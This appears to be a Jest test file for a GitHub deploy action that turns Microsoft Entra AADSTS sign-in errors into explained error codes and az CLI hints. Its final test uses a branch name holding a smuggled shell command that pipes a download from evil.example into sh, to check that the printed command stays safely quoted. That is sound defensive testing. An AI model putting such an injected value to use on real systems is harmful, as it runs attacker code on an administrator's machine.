import { describe, expect, test } from '@jest/globals'
import type { Claims } from '../../src/azure/entra-findings.ts'
import { signInError } from '../../src/azure/sign-in-errors.ts'
import { DeployError, type ErrorCode, explain } from '../../src/errors.ts'
import { CLIENT_ID, TENANT_ID } from '../builders.ts'

const identity = { auth: { by: 'oidc', clientId: CLIENT_ID }, tenantId: TENANT_ID } as const
const claims = {
  subject: 'repo:acme/infra:ref:refs/heads/main',
  issuer: 'https://token.actions.githubusercontent.com',
  audience: 'api://AzureADTokenExchange',
}
const TRACE = '0d7a2c1e-94b3-4f6a-8e55-3c2b1a0f9e00'
const CORRELATION = 'b6e1f0a2-3c4d-4e5f-9a8b-7c6d5e4f3a00'

/** The text that MSAL makes of Entra's reply. */
function fromEntra(number: string): Error {
  return new Error(
    `invalid_client: 7000000 - [2026-11-23 09:15:02Z]: AADSTS${number}: Words that change. Trace ID: ${TRACE} Correlation ID: ${CORRELATION} Timestamp: 2026-11-23 09:15:02Z`,
  )
}

const TRUST = `The application ${CLIENT_ID} does not trust this workflow: no federated credential has its`
const COMMANDS = [
  'Entra compares issuer, subject and audience letter by letter. Create a credential with exactly these (it takes a few minutes to work):',
  `  az ad app federated-credential create --id ${CLIENT_ID} --parameters '{"name":"repo-acme-infra-ref-refs-heads-main","issuer":"https://token.actions.githubusercontent.com","subject":"repo:acme/infra:ref:refs/heads/main","audiences":["api://AzureADTokenExchange"]}'`,
  'For a user-assigned managed identity, the same with:',
  "  az identity federated-credential create --identity-name <identity> --resource-group <group> --name repo-acme-infra-ref-refs-heads-main --issuer 'https://token.actions.githubusercontent.com' --subject 'repo:acme/infra:ref:refs/heads/main' --audiences 'api://AzureADTokenExchange'",
  'The subject depends on what started the run: branch, tag, pull request or environment each need a credential of their own.',
]

describe('what Entra says', () => {
  test.each<[string, ErrorCode, string]>([
    ['700213', 'subject-not-trusted', `${TRUST} subject.`],
    ['7002138', 'subject-not-trusted', `${TRUST} subject (it differs in upper and lower case only).`],
    ['70021', 'subject-not-trusted', `${TRUST} subject, issuer and audience.`],
    ['70025', 'subject-not-trusted', `${TRUST} subject, nor anything else.`],
    ['700211', 'issuer-not-trusted', `${TRUST} issuer.`],
    ['700212', 'audience-not-trusted', `${TRUST} audience.`],
  ])('as AADSTS%s is %s, with the credential to create', (number, code, message) => {
    const error = signInError(fromEntra(number), { ...identity, claims })
    expect([error.code, error.message]).toEqual([code, message])
    expect(error.hint.split('\n').slice(-COMMANDS.length)).toEqual(COMMANDS)
  })

  const hintFor = (number: string, changes: Partial<Claims>) =>
    signInError(fromEntra(number), { ...identity, claims: { ...claims, ...changes } }).hint

  test('of casing marks the upper-case letters, and shows how to look at the credentials', () => {
    const hint = hintFor('7002138', { subject: 'repo:Acme/infraX:ref:refs/heads/main' })
    expect(hint).toContain(['  repo:Acme/infraX:ref:refs/heads/main', '       ^         ^', 'Look at yours'].join('\n'))
    expect(hint).toContain(`az ad app federated-credential list --id ${CLIENT_ID}`)
  })

  test.each(['700213', '70021'])(
    'of an immutable subject (AADSTS%s) names the form that no longer matches',
    (number) => {
      const subject = 'repo:acme@1001/infra@2002:environment:production'
      expect(hintFor(number, { subject })).toMatch(
        /^This repository has immutable subjects.* for repo:acme\/infra:environment:production does not match/,
      )
      expect(hintFor(number, {})).toMatch(/^Entra compares/)
    },
  )

  test.each([
    ['https://token.actions.acme.ghe.com', 'token.actions.acme.ghe.com'],
    ['https://github.acme.example/_services/token', 'github.acme.example'],
  ])('of the issuer %s says whose it is, and prints it in the command', (issuer, host) => {
    const hint = hintFor('700211', { issuer })
    expect(hint).toMatch(new RegExp(`^The token is of ${host}, and not of github.com`))
    expect(hint).toContain(`"issuer":"${issuer}"`)
  })

  test('of an enterprise with an issuer of its own prints that, and says nothing of another host', () => {
    const issuer = 'https://token.actions.githubusercontent.com/acme'
    expect(hintFor('700211', { issuer })).toMatch(/^Entra compares/)
    expect(hintFor('700211', { issuer })).toContain(`--issuer '${issuer}'`)
  })

  test('of the audience says which cloud has which', () => {
    expect(hintFor('700212', { audience: 'api://AzureADTokenExchangeUSGov' }).split('\n').slice(0, 4)).toEqual([
      'api://AzureADTokenExchangeUSGov is the audience of `cloud: usgovernment`. If the application is in another cloud, set `cloud`:',
      '  public: api://AzureADTokenExchange',
      '  usgovernment: api://AzureADTokenExchangeUSGov',
      '  china: api://AzureADTokenExchangeChina',
    ])
  })

  test.each<[string, ErrorCode, string, string]>([
    [
      '700016',
      'client-not-found',
      `There is no application with the client id ${CLIENT_ID} in the tenant ${TENANT_ID}.`,
      '`client-id` has to be the application (client) id of the app registration or managed identity, not its object id; and `tenant-id` the tenant it lives in.\n  az ad app list --display-name <name> --query "[].{name:displayName, clientId:appId}"',
    ],
    [
      '7000229',
      'client-not-found',
      `The application ${CLIENT_ID} has no service principal in the tenant ${TENANT_ID}.`,
      `Create it once:\n  az ad sp create --id ${CLIENT_ID}`,
    ],
    ...['90002', '900023'].map((number): [string, ErrorCode, string, string] => [
      number,
      'tenant-not-found',
      `There is no tenant ${TENANT_ID} in this cloud.`,
      'Check `tenant-id`, and `cloud` if the tenant is in Azure Government or Azure China. The tenant of a subscription:\n  az account show --subscription <subscription-id> --query tenantId --output tsv',
    ]),
    [
      '50034',
      'sign-in-failed',
      'Signing in to Entra failed for a reason that this action does not know (AADSTS50034).',
      'Microsoft explains the number at https://login.microsoftonline.com/error?code=50034',
    ],
  ])('as AADSTS%s is %s', (number, code, message, hint) => {
    expect(signInError(fromEntra(number), { ...identity, claims })).toMatchObject({ code, message, hint })
  })

  test.each<[string, ErrorCode, RegExp, RegExp]>([
    [
      '700027',
      'credential-refused',
      /verify the signature of GitHub's token with the keys of https/,
      /GitHub Enterprise/,
    ],
    ['7000215', 'credential-refused', /it is not one of its secrets/, /az ad app credential reset/],
    ['7000222', 'credential-refused', /it has expired/, /oidc/],
    ['900612', 'issuer-unreachable', /could not fetch the keys/, /\/\.well-known\/jwks/],
    ['50166', 'issuer-unreachable', /could not fetch the keys/, /openid-configuration/],
    ['53003', 'access-blocked', /Conditional Access/, /Service principal sign-ins/],
    ['7000112', 'access-blocked', /disabled/, /correlation id/],
  ])('as AADSTS%s is %s', (number, code, message, hint) => {
    expect(signInError(fromEntra(number), { ...identity, claims })).toMatchObject({
      code,
      message: expect.stringMatching(message),
      hint: expect.stringMatching(hint),
    })
  })

  test("of a certificate that is not the application's tells its thumbprint", () => {
    const auth = {
      by: 'client-certificate',
      clientId: CLIENT_ID,
      path: 'x.pem',
      password: undefined,
      sendsChain: false,
    } as const
    const said = new Error(
      "AADSTS700027: … [Reason - The key was not found., Thumbprint of key used by client: '1DB4']",
    )
    expect(signInError(said, { auth, tenantId: TENANT_ID }).message).toBe(
      `The application ${CLIENT_ID} does not have the certificate that signed (thumbprint 1DB4).`,
    )
  })
})

describe('a time that does not fit (AADSTS700024)', () => {
  const minutes = (count: number) => new Date(Date.now() + count * 60_000).toISOString().replace('Z', '0000Z')
  const said = (now: number, until: number) =>
    new Error(
      `AADSTS700024: Client assertion is not within its valid time range. Current time: ${minutes(now)}, assertion valid from ${minutes(until - 15)}, expiry time of assertion ${minutes(until)}. Review the documentation.`,
    )

  test.each([
    [7, /is 7 minutes behind Entra's/],
    [-30, /is 30 minutes ahead of Entra's/],
  ])('is a wrong clock when Entra is %s minutes away', (now, message) => {
    const error = signInError(said(now, now - 1), { ...identity, claims })
    expect(error).toMatchObject({ code: 'clock-skew', message: expect.stringMatching(message) })
  })

  test('is a token that came too late when the clocks agree', () => {
    const error = signInError(said(0, -1), { ...identity, claims })
    expect(error).toMatchObject({
      code: 'assertion-expired',
      message: "GitHub's token for this run had expired 60 s before it arrived.",
    })
  })

  test('is told without numbers when Entra gives none', () => {
    const error = signInError(fromEntra('700024'), { ...identity, claims })
    expect(error.message).toBe("GitHub's token for this run is not valid at this moment.")
  })

  test('after azure/login, is told with the order that mends it', () => {
    const auth = { by: 'azure-cli', clientId: undefined } as const
    expect(signInError(said(0, -1), { auth, tenantId: TENANT_ID }).hint).toContain('right after it')
  })
})

describe('a refusal of Entra', () => {
  test('is told with the claims that were sent and the ids that support asks for', () => {
    const cause = fromEntra('700213')
    const error = signInError(cause, { ...identity, claims })
    expect(error.facts).toEqual({
      ...claims,
      'Entra error': 'AADSTS700213',
      'trace id': TRACE,
      'correlation id': CORRELATION,
    })
    expect(error.cause).toBe(cause)
  })

  test('before a token was sent is told without claims', () => {
    const error = signInError(fromEntra('700213'), identity)
    expect(error.hint).toBe('Create a federated credential for this workflow.')
    expect(error.facts).not.toHaveProperty('subject')
  })
})

describe('what does not come from Entra', () => {
  test.each<[string, unknown, string]>([
    ['an error', new Error('getaddrinfo ENOTFOUND login.example'), 'getaddrinfo ENOTFOUND login.example'],
    ['a text', 'a text', 'a text'],
  ])('such as %s is a failed sign-in, and tells the reason', (_title, thrown, reason) => {
    const error = signInError(thrown, identity)
    expect(error.code).toBe('sign-in-failed')
    expect(error.message).toBe(`Signing in to Entra failed: ${reason}.`)
    expect(error.hint).toBe(
      'Check that the runner can reach the login host of `cloud`, then run again with step debug logging for the details.',
    )
    expect(error.facts).toEqual({})
    expect(error.cause).toBe(thrown)
  })

  test('but is understood already, stays as it is', () => {
    const known = new DeployError('id-token-unavailable', 'No token.', { hint: 'Ask for one.' })
    expect(signInError(known, { ...identity, claims })).toBe(known)
  })

  test.each(['AbortError', 'TimeoutError'])('but from the end of the run (%s), is told as that', (name) => {
    const ended = Object.assign(new Error('The operation was aborted'), { name })
    expect(signInError(ended, { ...identity, claims })).toMatchObject({
      code: 'timed-out',
      message: 'The time of this run was used up while it tried to sign in to Entra.',
      cause: ended,
    })
  })
})

// Git allows quotes, semicolons and dollar signs in the name of a branch, and whoever reads the hint is an admin.
test('the command stays one quoted argument, whatever the branch is called', () => {
  const subject = "repo:acme/infra:ref:refs/heads/x';curl${IFS}evil.example|sh;'"
  const { hint } = signInError(fromEntra('700213'), { ...identity, claims: { ...claims, subject } })
  const argument = /--parameters (?<rest>.*)$/m.exec(hint)?.groups?.rest ?? ''
  expect(argument.replaceAll("'\\''", '')).toMatch(/^'[^']*'$/)
  const asTheShellReadsIt = argument.slice(1, -1).replaceAll("'\\''", "'")
  expect(JSON.parse(asTheShellReadsIt)).toMatchObject({ subject })
})

test('nothing of the reply but its number and ids is shown, as its words change and may hold more', () => {
  expect(explain(signInError(fromEntra('700213'), { ...identity, claims }))).not.toContain('Words that change')
})
